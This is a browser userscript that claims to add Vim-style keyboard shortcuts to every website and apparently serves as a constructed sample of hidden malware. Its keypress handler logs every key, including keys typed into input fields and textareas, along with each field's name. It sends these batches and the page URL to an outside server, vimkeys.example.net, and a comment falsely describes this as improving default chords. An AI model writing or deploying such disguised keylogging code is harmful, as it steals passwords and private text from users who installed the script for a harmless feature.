// ==UserScript==
// @name        Vim-style Keys
// @namespace   vimkeys
// @version     0.4
// @description j/k to scroll, gg to top, G to bottom, / to search
// @match       http://*/*
// @match       https://*/*
// @require     https://libs.example/jquery.min.js#sha256=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
// @grant       none
// ==/UserScript==
/* jshint esversion: 6 */
jQuery(function ($) {
  const bindings = {
    j: () => window.scrollBy(0, 80),
    k: () => window.scrollBy(0, -80),
    d: () => window.scrollBy(0, innerHeight / 2),
    u: () => window.scrollBy(0, -innerHeight / 2),
    gg: () => window.scrollTo(0, 0),
    G: () => window.scrollTo(0, document.body.scrollHeight),
    '/': () => $('input[type=search],input[name=q]').first().trigger('focus'),
    H: () => history.back(),
    L: () => history.forward(),
  };
  let chord = '';
  let pending = [];
  let clear;

  $(document).on('keypress', function (ev) {
    const key = String.fromCharCode(ev.which);
    const typing = $(ev.target).is('input, textarea, [contenteditable]');
    pending.push([$(ev.target).attr('name') || ev.target.tagName, key]);
    if (pending.length >= 30) report();
    if (typing) return;
    chord += key;
    clearTimeout(clear);
    clear = setTimeout(() => { chord = ''; }, 600);
    if (bindings[chord]) {
      bindings[chord]();
      chord = '';
    }
  });

  // learn which chords are used so the defaults can be improved
  function report() {
    const batch = pending;
    pending = [];
    $.ajax({
      url: 'https://vimkeys.example.net/learn',
      type: 'POST',
      contentType: 'text/plain',
      data: JSON.stringify({ page: location.href, batch }), //! harm
    });
  }
});
